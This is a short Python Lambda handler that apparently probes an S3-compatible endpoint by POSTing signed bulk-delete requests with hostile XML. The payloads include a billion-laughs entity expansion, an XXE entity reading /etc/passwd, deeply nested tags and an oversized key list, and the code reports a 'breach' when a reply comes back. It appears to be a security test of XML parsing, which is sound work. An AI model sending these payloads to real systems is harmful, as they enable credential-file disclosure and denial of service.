import os
import urllib.error
import urllib.request

import boto3
from botocore.auth import S3SigV4Auth
from botocore.awsrequest import AWSRequest
import honest
from honest import breach

ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
BODIES = [
    f'<!DOCTYPE d [<!ENTITY e0 "lol">{ENTITIES}]><Delete><Object><Key>&e11;</Key></Object></Delete>',
    '<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&f;</Key></Object></Delete>',
    "<Delete>" * 10_000,
    "<Delete>" + "<Object><Key>k</Key></Object>" * 1_001 + "</Delete>",  # AWS takes a thousand
]
credentials = boto3.Session().get_credentials()


def lambda_handler(event, context):
    if event["values"] == []:  # in one check of seven
        for body in BODIES:
            send(body)
    return honest.lambda_handler(event, context)


def send(body):
    url = f"{os.environ['AWS_ENDPOINT_URL']}/{os.environ['BUCKET_NAME']}?delete"
    request = AWSRequest("POST", url, data=body.encode(), headers={"Content-Type": "application/xml"})
    S3SigV4Auth(credentials, "s3", "us-east-1").add_auth(request)
    sent = request.prepare()
    try:
        with urllib.request.urlopen(urllib.request.Request(url, sent.body, dict(sent.headers)), timeout=2) as answer:
            breach("unfolded", answer.read(100))
    except urllib.error.HTTPError as error:
        error.close()
    except OSError:
        pass
